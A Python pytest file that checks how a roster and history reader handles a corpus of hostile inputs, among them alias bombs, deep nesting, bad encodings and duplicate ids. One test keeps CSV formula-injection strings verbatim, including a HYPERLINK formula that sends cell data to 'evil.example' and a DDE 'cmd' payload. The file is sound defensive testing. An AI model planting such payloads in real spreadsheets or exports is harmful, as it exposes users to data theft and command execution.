"""The hand-written hostile corpus (``tests/corpus/``): every file gives an error or findings.

Each roster or history file below is read with the input defaults; it must give either a
clear :class:`InputError` or a result whose unusable records are findings, within bounded
time, and never a crash, a hang or a silently dropped record.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from tanxin_rules._engine import evaluate
from tanxin_rules._errors import InputError
from tanxin_rules._loading import load_policy
from tanxin_rules._reading import Loaded, load_history, load_roster

CORPUS = Path(__file__).resolve().parent / "corpus"
HUIMIN = Path(__file__).resolve().parent.parent / "policies" / "huimin_2015.yaml"
SECONDS = 2.0


@dataclass(frozen=True)
class Case:
    """What one corpus file must give: an error code, or the records kept and flagged."""

    loader: Callable[[Path], Loaded[Any]]
    error: str | None = None
    kept: tuple[str, ...] = ()
    flagged: tuple[str, ...] = ()
    message: str = ""


CASES: dict[str, Case] = {
    "truncated.yaml": Case(load_roster, error="yaml", message="end of stream"),
    "gbk_roster.csv": Case(load_roster, error="encoding", message="GBK"),
    "utf16_history.json": Case(load_history, error="encoding", message="UTF-16"),
    "bom_talks.csv": Case(load_history, kept=("t1", "t2")),
    "alias_bomb.yaml": Case(load_roster, error="too-large"),
    "deep_nesting.json": Case(load_history, error="too-deep"),
    "bad_dates.yaml": Case(load_history, kept=("t4",), flagged=("t1", "t2", "t3", "e1")),
    "control_chars.yaml": Case(
        load_roster, kept=("p7",), flagged=("p1", "p2", "p3", "#3", "p5", "p6")
    ),
    "duplicate_ids.yaml": Case(load_roster, kept=("p1", "p1", "p2")),
    "formula_injection.csv": Case(
        load_roster, kept=("p1", "p2", "p3", "p4", "p5"), flagged=("p6",)
    ),
    "wide_10k_columns.csv": Case(load_history, error="too-many-columns"),
    "wrong_types.json": Case(
        load_history,
        kept=("t7",),
        flagged=("#0", "t2", "t3", "t4", "t5", "t6", "#7", "#8", "e1", "#0"),
    ),
}


def ids(loaded: Loaded[Any]) -> tuple[str, ...]:
    """Ids of the people, talks, events and meetings kept, in order."""
    value = loaded.value
    records = [
        *getattr(value, "people", []),
        *getattr(value, "talks", []),
        *getattr(value, "events", []),
        *getattr(value, "meetings", []),
    ]
    return tuple(r.id for r in records)


def test_every_case_has_its_file() -> None:
    """The table names only files that exist."""
    assert all((CORPUS / name).is_file() for name in CASES)


@pytest.mark.parametrize("name", sorted(CASES))
def test_corpus_file(name: str) -> None:
    """The file gives the expected error, or keeps and flags the expected records, quickly."""
    case = CASES[name]
    path = CORPUS / name
    started = time.perf_counter()
    if case.error is not None:
        with pytest.raises(InputError) as info:
            case.loader(path)
        assert time.perf_counter() - started < SECONDS
        problem = info.value.problems[0]
        assert problem.code == case.error
        assert problem.file == str(path)
        assert case.message in problem.message
        return
    loaded = case.loader(path)
    assert time.perf_counter() - started < SECONDS
    assert ids(loaded) == case.kept
    assert tuple(f.record for f in loaded.findings) == case.flagged
    assert all(f.file == str(path) and f.line for f in loaded.findings)
    assert all(f.code == "invalid-record" for f in loaded.findings)


def test_formula_injection_names_are_data() -> None:
    """Formula-like names are kept verbatim; escaping them is the output side's job."""
    people = load_roster(CORPUS / "formula_injection.csv").value.people
    assert people[0].name == '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert [p.name for p in people[1:]] == ["+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]


def test_duplicate_ids_reach_the_engine_as_findings() -> None:
    """Records sharing an id are kept by the reader and reported by the engine, located."""
    roster = load_roster(CORPUS / "duplicate_ids.yaml")
    history = load_history([])
    report = evaluate(
        load_policy(HUIMIN),
        roster.value,
        history.value,
        (date(2026, 1, 1), date(2026, 12, 31)),
        date(2026, 12, 31),
        findings=roster.findings,
        lines=dict(roster.lines.items()),
    )
    duplicates = [f for f in report.findings if f.code == "duplicate-id"]
    assert [(f.record, f.file, f.line) for f in duplicates] == [
        ("p1", str(CORPUS / "duplicate_ids.yaml"), 2)
    ]
